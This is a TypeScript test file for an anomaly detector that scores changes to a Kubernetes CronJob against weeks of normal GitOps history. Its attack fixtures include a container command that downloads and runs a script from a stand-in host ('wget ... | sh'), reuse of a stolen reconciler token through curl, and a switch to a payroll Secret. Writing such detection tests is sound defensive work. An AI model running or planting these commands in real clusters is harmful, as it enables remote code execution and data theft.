import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Activity } from '../../model/activity.ts';
import type { JsonObject } from '../../model/json.ts';
import type { Score } from '../../model/score.ts';
import { createAnomalyDetector } from './anomaly-detector.ts';
import type { Client } from './test-world.ts';
import { asked, container, cronJob, dayLength, gitops, person, quietWeeks, start } from './test-world.ts';

const days = 20;
const later = start + days * dayLength;
const report = (pod: JsonObject, spec: JsonObject = {}) =>
  cronJob('shop-report', 'shop', { serviceAccountName: 'shop-report', ...pod }, spec);
const usual = (version: string): JsonObject => container(`registry.corp.example/shop/report:${version}`);

/** What is said of the last of these, after three quiet weeks. */
function scoreOf(...activities: readonly Activity[]): Score | undefined {
  const detector = createAnomalyDetector();
  for (const activity of quietWeeks(days))
    assert.deepEqual(detector.inspect(activity), [], 'quiet weeks are quiet');
  const said = activities.map(activity => detector.inspect(activity));
  return said.at(-1)?.[0]?.score;
}

const update = (by: Client, object: ReturnType<typeof report>, at = later) =>
  asked({ by, verb: 'update', object, at });

describe('after quiet weeks, honest changes are not worth a word', () => {
  const table: readonly (readonly [what: string, activity: Activity])[] = [
    ['another version', update(gitops, report(usual('1.99.0')))],
    ['nothing changed', update(gitops, report(usual('1.19.0')))],
    [
      'the reconciler in another pod of its own',
      update({ ...gitops, pod: 'reconciler-6c9d7f8b5d-p4q7z' }, report(usual('1.99.0'))),
    ],
    ['a rollback', update(gitops, report(usual('1.3.0')))],
  ];
  for (const [what, activity] of table) it(what, () => assert.equal(scoreOf(activity), undefined));
});

describe('after quiet weeks, what does not belong is over the threshold', () => {
  const table: readonly (readonly [what: string, activity: Activity, feature: string, says: RegExp])[] = [
    [
      'another registry',
      update(gitops, report(container('ghcr.example/tools/runner:1'))),
      'image-registry',
      /^registry ghcr\.example: never in shop \(0 of \d+ times since 2026-05-04\), never in cluster case/,
    ],
    [
      'a person',
      update(
        person('dev'),
        report(container('registry.corp.example/shop/report:1.3.0', ['/bin/sh', '-c', 'tar c /data'])),
      ),
      'actor-realm',
      /^an identity of corp\.example wrote a CronJob in shop: never/,
    ],
    [
      "the reconciler's token elsewhere",
      update(
        { ...gitops, agent: 'curl/8.5.0', address: '203.0.113.9', pod: 'web-0', manager: 'curl' },
        report(usual('1.99.0')),
      ),
      'agent',
      /^client program curl: never by delivery\/reconciler/,
    ],
    [
      'another account and another Secret',
      update(
        gitops,
        report({
          ...container('registry.corp.example/shop/report:1.19.0', ['/app/run'], {
            envFrom: [{ secretRef: { name: 'payroll' } }],
          }),
          serviceAccountName: 'data-export',
        }),
      ),
      'kind-of-change',
      /"service account": never/,
    ],
    [
      'a beacon',
      update(
        gitops,
        report(
          container('registry.corp.example/shop/report:1.19.0', [
            '/bin/sh',
            '-c',
            'wget -qO- http://files.example/x | sh',
          ]),
          { schedule: '* * * * *' },
        ),
      ),
      'download-and-run',
      /downloads something and runs it/,
    ],
  ];
  for (const [what, activity, feature, says] of table) {
    it(what, () => {
      const score = scoreOf(activity);
      assert.ok(score !== undefined && score.bits >= score.threshold, JSON.stringify(score));
      const part = score.parts.find(one => one.feature === feature);
      assert.match(part?.sentence ?? '', says);
      const sum = score.parts.reduce((bits, one) => bits + one.bits, 0);
      assert.ok(Math.abs(sum - score.bits) < 0.05, 'the score is the sum of its parts');
    });
  }
});

it('a value that alerted is not learned', () => {
  const attack = (at: number) => update(person('dev'), report(container('ghcr.example/tools/runner:1')), at);
  const back = update(gitops, report(usual('1.19.0')), later + 60_000);
  const [first, again] = [scoreOf(attack(later)), scoreOf(attack(later), back, attack(later + 120_000))];
  assert.ok(first !== undefined && again !== undefined && again.bits >= first.threshold);
});

it('with no history, surprises do not count', () => {
  const detector = createAnomalyDetector();
  const [first] = quietWeeks(1);
  assert.ok(first !== undefined);
  assert.deepEqual(detector.inspect(first), []);
  assert.deepEqual(detector.inspect(update(person('dev'), report(usual('2.0.0')), start + 60_000)), []);
});

it('a feature that is left out adds nothing, and nothing else changes', () => {
  const registry = update(gitops, report(container('ghcr.example/tools/runner:1')));
  const scores = [[], ['image-registry']].map(without => {
    const detector = createAnomalyDetector({ without });
    for (const activity of quietWeeks(days)) detector.inspect(activity);
    return detector.inspect(registry)[0]?.score;
  });
  const kept = scores[0]?.parts.filter(({ feature }) => feature !== 'image-registry');
  assert.notEqual(kept?.length, scores[0]?.parts.length);
  assert.deepEqual(scores[1]?.parts, kept);
});

describe('what a person says', () => {
  const odd = (version: string, at: number) =>
    update(person('dev'), report(container(`ghcr.example/tools/runner:${version}`)), at);
  const again = (isConfirmed: () => boolean): Score | undefined => {
    const detector = createAnomalyDetector({ isConfirmed });
    for (const activity of quietWeeks(days)) detector.inspect(activity);
    for (let day = 0; day < 6; day += 1) detector.inspect(odd(`1.${day}`, later + day * dayLength));
    return detector.inspect(odd('1.9', later + 7 * dayLength))[0]?.score;
  };

  it('is right is learned, though it was alerted on; else it is not', () => {
    const unlearned = again(() => false);
    assert.ok(unlearned !== undefined && unlearned.bits >= unlearned.threshold, JSON.stringify(unlearned));
    const learned = again(() => true);
    assert.ok(learned === undefined || learned.bits < learned.threshold, JSON.stringify(learned));
  });

  it('is the threshold: the score stays what it was', () => {
    const scoreWith = (threshold: number): Score | undefined => {
      const detector = createAnomalyDetector({ threshold });
      for (const activity of quietWeeks(days)) detector.inspect(activity);
      return detector.inspect(odd('1', later))[0]?.score;
    };
    const [low, high] = [scoreWith(5), scoreWith(25)];
    assert.equal(low?.bits, high?.bits);
    assert.deepEqual([low?.threshold, high?.threshold], [5, 25]);
  });
});
